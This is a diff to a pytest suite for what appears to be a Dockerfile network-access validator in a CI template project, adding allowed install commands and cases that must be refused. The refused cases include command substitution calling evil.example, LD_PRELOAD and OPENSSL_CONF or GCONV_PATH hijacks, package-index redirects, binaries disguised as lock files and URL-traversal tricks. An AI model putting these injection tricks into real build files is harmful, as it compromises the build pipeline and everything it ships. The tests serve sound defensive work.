@@ -15,7 +15,19 @@ SCRIPTS = ROOT / "src/cicd_templates/builds/scripts"
 BASE = f"public.ecr.aws/docker/library/python@sha256:{'a' * 64}"
 PIP = "pip install --only-binary :all: --require-hashes -r requirements.txt"
 DOWNLOAD = f"curl -fsSL -o /tmp/tool https://example.com/tool && echo '{'a' * 64}  /tmp/tool' | sha256sum --check"
-FILES = ("requirements.txt", "requirements/base.txt", "package.json", "package-lock.json", "app.py", "notes.txt")
+ADDRESSES = ("https://example.com/", "https://files.example.com/tool")
+FILES = (
+    *(
+        "requirements.txt",
+        "requirements/base.txt",
+        "package.json",
+        "package-lock.json",
+        "app.py",
+        "notes.txt",
+        "go.sum",
+    ),
+    *("composer.json", "pyproject.toml", "uv.lock"),
+)
 
 
 def built(text: str, folder: Path, monkeypatch: pytest.MonkeyPatch) -> str:
@@ -23,12 +35,14 @@ def built(text: str, folder: Path, monkeypatch: pytest.MonkeyPatch) -> str:
     for name in FILES:
         (folder / "context" / name).parent.mkdir(parents=True, exist_ok=True)
         (folder / "context" / name).touch()
+    (folder / "context/Cargo.lock").write_bytes(b"\x7fELF\x02\x01\x01\0")
+    (folder / "context/yarn.lock").write_bytes(b"\x7fELF\xff")
     path = folder / "Dockerfile"
     path.write_text(text)
     instructions, target = str(folder / "instructions"), folder / "built"
     for script, arguments in (
         ("dockerfile", [instructions, "public.ecr.aws"]),
-        ("dockerfile_network", [instructions, str(folder / "context"), str(target)]),
+        ("dockerfile_network", [instructions, str(folder / "context"), str(target), *ADDRESSES]),
     ):
         monkeypatch.setattr(sys, "argv", [f"{script}.py", str(path), *arguments])
         try:
@@ -48,8 +62,8 @@ def built(text: str, folder: Path, monkeypatch: pytest.MonkeyPatch) -> str:
         "--mount=type=bind,source=requirements.txt,target=/tmp/requirements.txt " + PIP,
         "--mount=type=bind,src=package.json,dst=package.json,ro --mount=type=bind,source=package-lock.json,"
         "target=package-lock.json npm ci --ignore-scripts --omit=dev",
-        "uv pip sync --system --require-hashes --no-build requirements.txt",
-        "uv sync --frozen --no-build --no-install-project --no-dev",
+        "uv pip sync --system --no-config --require-hashes --no-build requirements.txt",
+        "uv sync --no-config --frozen --no-build --no-install-project --no-dev",
         "yarn install --frozen-lockfile --ignore-scripts",
         "pnpm install --frozen-lockfile --ignore-scripts --prod",
         "go mod download",
@@ -59,6 +73,7 @@ def built(text: str, folder: Path, monkeypatch: pytest.MonkeyPatch) -> str:
         "apk add --no-cache curl libstdc++",
         "dnf install -y openssl && dnf clean all",
         DOWNLOAD,
+        DOWNLOAD.replace("example.com", "files.example.com"),
         f"apt-get install -y curl && {DOWNLOAD}",
         f"{DOWNLOAD} && {DOWNLOAD.replace('tool', 'other')} && true",
     ],
@@ -66,7 +81,7 @@ def built(text: str, folder: Path, monkeypatch: pytest.MonkeyPatch) -> str:
 def test_a_command_that_takes_what_a_lock_names_has_a_network(
     command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    text = f'FROM {BASE}\nARG A\nENV A=1 B="$PATH"\nENV C d\nRUN {command}\n'
+    text = f'FROM {BASE}\nARG A\nENV A=1 B="x"\nENV C d\nRUN {command}\n'
 
     assert built(text, tmp_path, monkeypatch) == text
 
@@ -79,12 +94,14 @@ def test_a_command_that_takes_what_a_lock_names_has_a_network(
         "COPY requirements.txt /app/requirements.txt",
         "COPY package*.json ./",
         "ENV PIP_NO_CACHE_DIR=1 PYTHONPATH=/app NODE_ENV=production PATH=/venv/bin:${PATH}",
-        'ENV DEBIAN_FRONTEND=noninteractive A="x y"',
+        'ENV DEBIAN_FRONTEND=noninteractive A="x y" LANG=C.UTF-8 EMPTY= VIRTUAL_ENV=/opt/venv',
         "ARG VERSION=1",
         "WORKDIR /app\nUSER 1\nEXPOSE 80\nLABEL a=b",
         'SHELL ["/bin/bash", "-euo", "pipefail", "-c"]',
         f"RUN {PIP}",
         f"COPY --from={BASE} /usr/local /usr/local",
+        f"COPY --from={BASE} /uv /uvx /bin/",
+        f"COPY --from={BASE} /usr/bin/uv /usr/local/bin/uv",
         "RUN --network=none mkdir /srv",
     ],
 )
@@ -103,6 +120,12 @@ def test_what_brings_in_nothing_of_the_source_leaves_the_network(
         "COPY app.py /usr/local/bin/pip",
         "COPY requirements.txt /usr/local/bin/pip",
         "COPY requirements.txt app.py .",
+        "COPY Cargo.lock .",
+        "COPY yarn.lock .",
+        f"COPY --from={BASE} /bin/sh /usr/local/bin/pip",
+        f'COPY --from={BASE} ["/bin/sh", "/usr/local/bin/"]',
+        f"COPY --from={BASE} /x/${{A:-q/go.sum}} /usr/bin/${{B:-q/go.sum}}",
+        f"COPY --from={BASE} --chmod=755 /x/go.sum pip",
         "COPY requirements /usr/local/bin/",
         "COPY *.txt /app/",
         "COPY folder.d/requirements.txt /app/",
@@ -126,6 +149,13 @@ def test_what_brings_in_nothing_of_the_source_leaves_the_network(
         'ENV PIP_"INDEX_URL"=https://evil.example',
         "ENV A=1 LD_PRELOAD=/x",
         "ENV PS4=x",
+        "ENV OPENSSL_CONF=/app/composer.json",
+        "ENV OPENSSL_CONF /app/composer.json",
+        "ENV GCONV_PATH=composer.json",
+        'ENV A="x --no-binary y"',
+        "ENV A=https://evil.example",
+        "ENV A=$PYTHONPATH",
+        "ARG A=${PATH}",
         "ENV PERL5OPT=-Mx",
         "ENV A='$(curl evil.example)'",
         'ENV A="`id`"',
@@ -237,6 +267,12 @@ RUN make
             "curl or wget can take",
         ),
         (f"RUN {DOWNLOAD.replace('/tmp/tool', '/etc/tool')}", 2, "curl or wget can take"),
+        (f"RUN {DOWNLOAD.replace('//example', '//example.com.evil')}", 2, "curl or wget can take"),
+        (f"RUN {DOWNLOAD.replace('example.com/tool', 'files.example.com/tools')}", 2, "curl or wget can take"),
+        (f"RUN {DOWNLOAD.replace('com/tool', 'com/a/../tool')}", 2, "curl or wget can take"),
+        (f"RUN {DOWNLOAD.replace('com/tool', 'com/%2e%2e/tool')}", 2, "curl or wget can take"),
+        ("RUN uv sync --frozen --no-build --no-install-project", 2, "uv can take"),
+        ("RUN uv pip install --require-hashes --no-build -r requirements.txt", 2, "uv can take"),
         (f"RUN {DOWNLOAD.replace('https', 'http')}", 2, "curl or wget can take"),
         (f"RUN {DOWNLOAD.replace('&&', ';')}", 2, "curl or wget can take"),
         (f"RUN {DOWNLOAD} || true", 2, "curl or wget can take"),
@@ -249,6 +285,34 @@ def test_what_would_need_a_network_that_it_has_not_is_refused_by_its_line(
 
     assert any(each.startswith(f"{line}: {problem}") for each in answer.split("\n")), answer
     assert json.dumps(answer)[1:-1].replace("\\n", "") == answer.replace("\n", "")
+
+
+@pytest.mark.parametrize(
+    ("before", "inside", "cut"),
+    [
+        ("ARG OPENSSL_CONF=/app/go.sum", "ARG OPENSSL_CONF", True),
+        ("ARG A=$X B=1", "ARG B A", True),
+        ("ARG A='/x'", "ARG B", True),
+        ("ARG A=/x", "ARG B", False),
+        ("ARG A=3.13", "ARG A=3", False),
+        ("ARG A=3", "ARG A", False),
+    ],
+)
+def test_a_stage_takes_over_a_variable_from_before_it(
+    before: str, inside: str, cut: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    text = f"{before}\nFROM {BASE}\n{inside}\nRUN {PIP}\n"
+    answer = built(text, tmp_path, monkeypatch)
+
+    assert answer.endswith("; line 3 ended that part") if cut else answer == text
+
+
+def test_a_lock_file_becomes_no_program_by_a_copy_from_a_stage_that_has_a_network(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    text = f"FROM {BASE} AS a\nCOPY go.sum /x/\nFROM {BASE}\nCOPY --from=a /x/go.sum /usr/local/bin/pip\nRUN {PIP}\n"
+
+    assert built(text, tmp_path, monkeypatch).endswith("; line 4 ended that part")
 
 
 def test_a_variable_before_the_first_stage_ends_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
